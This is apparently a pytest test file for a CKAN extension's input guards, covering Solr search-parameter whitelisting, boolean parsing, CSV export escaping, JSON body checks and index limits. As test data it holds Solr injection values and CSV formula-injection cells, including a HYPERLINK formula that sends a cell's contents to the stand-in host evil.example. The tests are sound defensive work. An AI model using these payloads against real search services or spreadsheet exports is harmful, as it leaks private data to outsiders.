"""The pure parts of issue 14's surface guards: search parameters, booleans,
CSV cells, JSON request bodies, index values, and which actions hide existence."""
import pytest

from ckanext.govopen import search_params
from ckanext.govopen.dashboard import export
from ckanext.govopen.gate import core
from ckanext.govopen.logic import existence, index_limits
from ckanext.govopen.web import request_guard


# --- search parameters ---------------------------------------------------------------

@pytest.mark.parametrize("fl", [
    "name,vdd:validated_data_dict", "dd:data_dict", "name,[json]", "validated_data_dict", "data_dict",
    "*", "na*", "res_url", "url", "id,score,sum(1,2)", "[child]", "x:name", ["id", "res_url"],
])
def test_fl_takes_only_listed_plain_fields(fl):
    with pytest.raises(search_params.SearchParameterError) as err:
        search_params.check({"fl": fl if isinstance(fl, list) else [fl]})
    assert "fl" in err.value.error_dict


def test_fl_listed_fields_pass_and_a_refusal_is_also_a_search_query_error():
    search_params.check({"fl": ["id,name title", "metadata_modified"]})
    from ckan.lib.search.common import SearchQueryError
    with pytest.raises(SearchQueryError):
        search_params.check({"fl": ["vdd:validated_data_dict"]})


def test_non_string_parameters_are_refused_not_crashed():
    with pytest.raises(search_params.SearchParameterError):
        search_params.check({"fl": [1, {"a": 1}]})


@pytest.mark.parametrize("params", [
    {"facet.field": ["res_url"]}, {"facet.field": ["{!key=x}name"]}, {"facet.field": ["validated_data_dict"]},
    {"facet.field": ["res_extras_download_url"]}, {"facet.field": ["urls"]},
    {"sort": "strdist(res_url,'x',edit) desc"}, {"sort": "res_url asc"}, {"sort": "query($q) desc"},
    {"sort": "name"}, {"qf": "res_url^4"}, {"qf": "{!lucene}name"},
    {"bf": "termfreq(res_url,'x')"}, {"boost": "{!func}1"}, {"bf": "$x"},
    {"defType": "xmlparser"}, {"defType": "join"}, {"wt": "csv"}, {"wt": "xslt"},
])
def test_field_naming_parameters_refuse_locations_local_params_and_functions(params):
    with pytest.raises(search_params.SearchParameterError) as err:
        search_params.check(dict(params))
    assert set(err.value.error_dict) == set(params)


def test_what_ckan_and_govopen_pages_send_passes():
    search_params.check({"q": "*:*", "facet.field": ["organization", "res_format", "open_type", "tags",
                                                     "license_id", "groups", "validation_status"],
                         "sort": "score desc, metadata_modified desc", "qf": "name^4 title^4 text",
                         "defType": "edismax", "wt": "json", "bf": "recip(ms(NOW,metadata_modified),3.16e-11,1,1)"})
    search_params.check({"sort": "title_string asc"})
    search_params.check({"sort": "quality_score desc"})
    search_params.check({"sort": "rank"})


# --- private -------------------------------------------------------------------------

@pytest.mark.parametrize("value,expected", [
    (True, True), (False, False), (1, True), (0, False), ("true", True), ("True", True), ("FALSE", False),
    ("yes", True), ("no", False), ("1", True), ("0", False), ("on", True), ("off", False),
    (" true", None), ("true ", None), ("null", None), ("", None), ({"x": 1}, None), ([], None),
    (2, None), (None, None), ("maybe", None), (1.0, None),
])
def test_as_boolean_knows_only_clear_booleans(value, expected):
    assert core.as_boolean(value) is expected


@pytest.mark.parametrize("value", [{"x": 1}, " true", "null", [], "maybe", 2])
def test_an_unclear_private_counts_as_public_so_the_gate_runs(value):
    assert core.wants_public({"private": value})


def test_only_a_clear_private_or_an_inactive_state_is_not_public():
    assert not core.wants_public({"private": "true"})
    assert not core.wants_public({"private": 1})
    assert core.wants_public({})
    assert not core.wants_public({"private": False, "state": "draft"})


# --- CSV cells -----------------------------------------------------------------------

@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3",
                                  "@SUM(A1:A2)", "\tcmd", "\r=1+1"])
def test_formula_cells_are_made_text(text):
    assert export._cell(text) == "'" + text


def test_ordinary_cells_and_numbers_are_unchanged():
    assert export._cell("交通运输局") == "交通运输局"
    assert export._cell(-3) == "-3" and export._cell(0.5) == "0.5" and export._cell(None) == ""
    csv = export.to_csv([{"organization_title": "=1+1", "open": 2}], [])
    assert "'=1+1" in csv and ",=1+1" not in csv


# --- JSON bodies ---------------------------------------------------------------------

def test_json_depth_ignores_brackets_in_strings():
    assert request_guard.json_depth('{"a": [[1]]}') == 3
    assert request_guard.json_depth('{"a": "[[[[[[[[[[{{{{"}') == 1
    assert request_guard.json_depth('{"a": "\\"[[[["}') == 1
    assert request_guard.json_depth("[" * 5000 + "]" * 5000) == 5000


def test_find_bad_names_the_path():
    assert request_guard.find_bad({"notes": "a\x00b"}) == ("nul", "notes")
    assert request_guard.find_bad({"resources": [{"name": "ok"}, {"name": "\ud800"}]}) == \
        ("surrogate", "resources[1].name")
    assert request_guard.find_bad({"title": "公交线路 🚌"}) is None


# --- the index ------------------------------------------------------------------------

def test_index_values_are_cut_to_one_term_but_text_fields_are_not():
    long_zh = "字" * 20000                     # 60,000 UTF-8 bytes
    out = index_limits.index_fields({"title_string": long_zh, "notes_en": "x" * 40000, "notes": long_zh,
                                     "tags": ["ok", "y" * 33000], "validated_data_dict": long_zh, "id": "a"})
    assert len(out["title_string"].encode()) <= index_limits.MAX_TERM_BYTES
    assert len(out["notes_en"]) == index_limits.MAX_TERM_BYTES
    assert out["tags"][0] == "ok" and len(out["tags"][1]) == index_limits.MAX_TERM_BYTES
    assert "notes" not in out and "validated_data_dict" not in out and "id" not in out


# --- existence ------------------------------------------------------------------------

def test_every_govopen_action_is_either_wrapped_or_listed_with_a_reason():
    from ckanext.govopen import feature, plugin
    own = {name for name in feature.actions(plugin.FEATURES) if name.startswith("govopen_")}
    assert own == set(existence.TARGETS) | set(existence.NOT_WRAPPED)
    assert not set(existence.TARGETS) & set(existence.NOT_WRAPPED)
    assert all(reason for reason in existence.NOT_WRAPPED.values())
